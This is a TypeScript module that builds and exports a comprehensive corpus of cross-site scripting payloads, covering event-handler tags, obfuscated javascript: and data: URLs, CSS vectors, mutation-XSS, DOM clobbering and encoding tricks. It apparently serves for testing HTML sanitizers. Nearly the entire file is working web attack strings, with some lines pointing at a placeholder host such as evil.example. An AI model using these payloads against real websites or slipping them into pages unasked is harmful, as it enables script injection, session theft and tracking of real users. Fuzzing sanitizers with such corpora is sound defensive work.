/*
 * The published families of cross-site scripting payloads (OWASP filter evasion, PortSwigger's cheat sheet, HTML5 Security
 * Cheatsheet, DOMPurify's and mutation-XSS disclosures), as products: element × handler, scheme × encoding × place, and the
 * single forms that are products of nothing. `CALL` runs script, `URL` is an address that must never be asked.
 */

const HANDLED: readonly (readonly [element: string, handler: string, more: string])[] = [
  ...['onerror', 'onload', 'onloadstart', 'onmouseover', 'onclick'].map((h) => ['img', h, 'src=x'] as const),
  ...['onload', 'onbegin', 'onfocus', 'onerror'].map((h) => ['svg', h, ''] as const),
  ...['onload', 'onpageshow', 'onfocus', 'onhashchange', 'onresize'].map((h) => ['body', h, ''] as const),
  ...['onfocus', 'oninput', 'onblur', 'onsearch', 'oninvalid'].map((h) => ['input', h, 'autofocus'] as const),
  ...['onerror', 'oncanplay', 'onloadedmetadata', 'onplay', 'onprogress'].map(
    (h) => ['video', h, 'src=URL autoplay'] as const,
  ),
  ...['onerror', 'oncanplay', 'onloadstart', 'ondurationchange'].map(
    (h) => ['audio', h, 'src=URL autoplay'] as const,
  ),
  ...['ontoggle', 'onclick', 'onpointerover'].map((h) => ['details', h, 'open'] as const),
  ...['onstart', 'onfinish', 'onbounce'].map((h) => ['marquee', h, 'loop=1'] as const),
  ...['onload', 'onerror', 'onreadystatechange'].map((h) => ['iframe', h, 'src=URL'] as const),
  ...['onload', 'onerror'].flatMap((h) => [
    ['object', h, 'data=URL'] as const,
    ['embed', h, 'src=URL'] as const,
  ]),
  ...['onload', 'onerror'].flatMap((h) => [
    ['script', h, 'src=URL'] as const,
    ['link', h, 'rel=stylesheet href=URL'] as const,
  ]),
  ...['onload', 'onerror'].map((h) => ['style', h, ''] as const),
  ...['onfocus', 'onfocusin', 'onactivate'].flatMap((h) =>
    ['a', 'p', 'div', 'td', 'select', 'textarea', 'keygen', 'button'].map(
      (e) => [e, h, 'tabindex=0 autofocus'] as const,
    ),
  ),
  ...[
    'onanimationstart',
    'onanimationend',
    'ontransitionend',
    'onwheel',
    'onscroll',
    'oncut',
    'onpaste',
    'oncopy',
  ].flatMap((h) =>
    ['b', 'table', 'span', 'li', 'h1', 'custom-element'].map(
      (e) => [e, h, 'style=animation-name:x'] as const,
    ),
  ),
];

/** An attribute written in the ways that filters have missed. */
const WRITINGS: readonly ((name: string, value: string) => string)[] = [
  (name, value) => ` ${name}="${value}"`,
  (name, value) => ` ${name}='${value}'`,
  (name, value) => `/${name.toUpperCase()}=${value}`,
  (name, value) => `\n${name}\t=\n"${entities(value)}"`,
];

const entities = (text: string) =>
  [...text].map((letter) => `&#x${letter.charCodeAt(0).toString(16)}`).join(';') + ';';
const decimals = (text: string) =>
  [...text].map((letter) => `&#${String(letter.charCodeAt(0)).padStart(7, '0')}`).join('');

const handlers = HANDLED.flatMap(([element, handler, more]) =>
  WRITINGS.map((write) => `<${element} ${more}${write(handler, 'CALL')}>x</${element}>`),
);

const SCHEMES: readonly string[] = [
  'javascript:CALL',
  'JaVaScRiPt:CALL',
  ' javascript:CALL',
  '\u0001javascript:CALL',
  'java\tscript:CALL',
  'java\nscript:CALL',
  'java&Tab;script&colon;CALL',
  'javascript&#58;CALL',
  'javascript://%0aCALL',
  'jav&#x0A;ascript:CALL',
  'vbscript:CALL',
  'livescript:CALL',
  'data:text/html,<script>CALL</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY2FsbGVkKCk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg onload=CALL>',
  'blob:URL',
  'filesystem:URL',
  'feed:javascript:CALL',
  'view-source:javascript:CALL',
  'jar:javascript:CALL!/',
  '//javascript:CALL',
  '\u00a0javascript:CALL',
];

const PLACES: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}" id=x>x</a>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<button form=x formaction="${address}">x</button>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<img src="${address}">`,
  (address) => `<math href="${address}">x</math>`,
  (address) => `<base href="${address}"><a href="#">x</a>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<area href="${address}"><blockquote cite="${address}">x</blockquote>`,
];

const addresses = [...SCHEMES, decimals('javascript:CALL'), entities('javascript:CALL')].flatMap((scheme) =>
  PLACES.map((place) => place(scheme)),
);

/** What asks for something elsewhere without any script. */
const fetching: readonly string[] = [
  ...[
    'img src',
    'img srcset',
    'video poster',
    'video src',
    'audio src',
    'source src',
    'track src',
    'input type=image src',
  ],
  ...[
    'link rel=stylesheet href',
    'link rel=prefetch href',
    'link rel=preload as=image href',
    'link rel=dns-prefetch href',
  ],
  ...[
    'body background',
    'table background',
    'td background',
    'iframe src',
    'embed src',
    'object data',
    'applet code',
  ],
  ...[
    'script src',
    'frame src',
    'bgsound src',
    'svg><image href',
    'svg><use href',
    'svg><feImage href',
    'isindex src',
  ],
  ...[
    'html manifest',
    'menuitem icon',
    'picture><source srcset',
    'portal src',
    'fencedframe src',
    'command icon',
  ],
].map((place) => `<${place}="URL">x`);

const styles: readonly string[] = [
  'background:url(URL)',
  'background-image:\\75\\72\\6c(URL)',
  'list-style-image:url(URL)',
  'width:expression(CALL)',
  '-moz-binding:url(URL#x)',
  'behavior:url(URL)',
  '@import "URL"',
  'content:url(URL)',
  'cursor:url(URL),auto',
  'font-family:x;src:url(URL)',
].flatMap((style) => [
  `<p style="${style}">x</p>`,
  `<style>p{${style}}</style><p>x</p>`,
  `<svg><style>*{${style}}</style></svg>`,
  `<div style='${entities(style)}'>x</div>`,
]);

/** Mutation, clobbering, comments, namespaces and encodings: each a disclosure of its own. */
const singles: readonly string[] = [
  '<script>CALL</script>',
  '<scr<script>ipt>CALL</scr</script>ipt>',
  '<<script>CALL//<</script>',
  '<script/src=URL></script>',
  '<script\x20type="text/javascript">CALL</script>',
  '<script>/*<!--*/CALL//--></script>',
  '<noscript><p title="</noscript><img src=x onerror=CALL>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CALL&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=CALL>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=CALL>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=CALL></style></annotation-xml></math>',
  '<svg><foreignObject><iframe srcdoc="&lt;script&gt;CALL&lt;/script&gt;"></foreignObject></svg>',
  '<svg><animate attributeName=href values=javascript:CALL /><a id=x><text>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to=CALL />',
  '<svg><script href=data:,CALL></script></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>CALL</script></svg>#x">',
  '<svg><discard onbegin=CALL></svg>',
  '<svg><desc><![CDATA[</desc><script>CALL</script>]]></svg>',
  '<svg><title><style><img src=x onerror=CALL></style></title></svg>',
  '<template><img src=x onerror=CALL></template>',
  '<template shadowrootmode=open><img src=x onerror=CALL></template>',
  '<div><template shadowroot=open><script>CALL</script></template></div>',
  '<slot onslotchange=CALL><img></slot>',
  '<xmp><p title="</xmp><img src=x onerror=CALL>">',
  '<noembed><img title="</noembed><img src=x onerror=CALL>"></noembed>',
  '<noframes><img title="</noframes><img src=x onerror=CALL>"></noframes>',
  '<iframe><img title="</iframe><img src=x onerror=CALL>"></iframe>',
  '<plaintext><img src=x onerror=CALL>',
  '<title><img title="</title><img src=x onerror=CALL>"></title>',
  '<textarea><img title="</textarea><img src=x onerror=CALL>"></textarea>',
  '<select><template><style><!--</style><a title="--></style></select><img src=x onerror=CALL>">',
  '<option><style></option></select><img src=x onerror=CALL></style></option>',
  '<table><caption><svg><title><table><style><img src=x onerror=CALL></style></table>',
  '<form id=x><input name=attributes><input name=parentNode><input name=nodeName></form><img src=x onerror=CALL>',
  '<form><input name=removeChild><input name=insertBefore><img src=x onerror=CALL></form>',
  '<img name=body><img name=implementation><img src=x onerror=CALL>',
  '<a id=defaultView><a id=defaultView name=trustedTypes href=javascript:CALL>x</a>',
  '<!--><img src=x onerror=CALL>-->',
  '<!--[if gte IE 4]><script>CALL</script><![endif]-->',
  '<!-- --!><img src=x onerror=CALL> -->',
  '<![CDATA[><img src=x onerror=CALL>]]>',
  '<?xml-stylesheet href="javascript:CALL"?><img src=x onerror=CALL>',
  '<?php echo "x"?><script>CALL</script>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "URL">]><p>&y;</p>',
  '<html xmlns:xss><?import namespace="xss" implementation="URL"><xss:xss>x</xss:xss>',
  '<xml id=x><i><b><img src=x onerror=CALL></b></i></xml><span datasrc="#x" datafld=c></span>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">CALL</x:script>',
  '<embed code=URL allowscriptaccess=always>',
  '<object type="text/x-scriptlet" data=URL><param name=url value=javascript:CALL></object>',
  '<isindex type=image src=1 onerror=CALL>',
  '<input type=hidden accesskey=x onclick=CALL popover id=x><button popovertarget=x onclick=CALL>x</button>',
  '<a href="https://good.example" ping=URL>x</a>',
  '<a href="http://user:secret@evil.example/">x</a>',
  '<a href=x onclick=CALL style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
  '\u003Cscript\u003ECALL\u003C/script\u003E',
  '+ADw-script+AD4-CALL+ADw-/script+AD4-',
  '¼script¾CALL¼/script¾',
  '%3Cscript%3ECALL%3C/script%3E',
  '&lt;script&gt;CALL&lt;/script&gt;',
  '<img/src="x"/onerror=CALL//',
  '<img src=`x`onerror=CALL>',
  '<img """><script>CALL</script>">',
  '<IMG SRC=x:x onerror\x0b=\x0cCALL>',
  '<a\x00href=javascript:CALL>x</a>',
  '<img src="x` `<script>CALL</script>"` `>',
  `${'<div>'.repeat(600)}<img src=x onerror=CALL>`,
  `${'<b>'.repeat(300)}<svg onload=CALL>`,
  `${'<table><tr><td>'.repeat(200)}<script>CALL</script>`,
  `${'<math><mi>'.repeat(150)}<style><img src=x onerror=CALL></style>`,
];

/**
 * Every payload form, each once.
 * @param call an expression that runs script, without quotes, @param url an address that is watched
 */
export function hostileMarkup(call: string, url: string): readonly string[] {
  const all = [...handlers, ...addresses, ...fetching, ...styles, ...singles];
  return [...new Set(all.map((form) => form.replaceAll('CALL', call).replaceAll('URL', url)))];
}
